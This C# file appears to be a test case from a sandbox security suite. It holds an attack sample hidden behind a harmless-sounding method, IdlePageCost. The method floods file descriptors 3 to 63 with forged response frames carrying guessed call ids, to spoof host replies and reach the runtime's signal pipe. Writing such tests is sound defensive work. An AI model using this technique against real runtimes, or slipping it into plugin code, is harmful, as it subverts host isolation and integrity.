// Attack: answers the coming calls ahead, each with the id that it will have. Its numbers also reach the pipe on which the runtime takes signals.
// Expect: an answer to a call that was not made || signal
using System.Runtime.InteropServices;

public sealed partial class Attack
{
    [DllImport("libc")]
    private static extern nint write(int descriptor, byte[] bytes, nint count);

    public double IdlePageCost(int taxPercent)
    {
        for (int id = 3; id < 400; id++)
        {
            byte[] frame = [13, 0, 0, 0, 5, (byte)id, (byte)(id >> 8), 0, 0, 0, 0, 0, 0, 0, 0, 20, 64];
            for (int descriptor = 3; descriptor < 64; descriptor++)
                write(descriptor, frame, frame.Length);
        }

        return 5;
    }
}
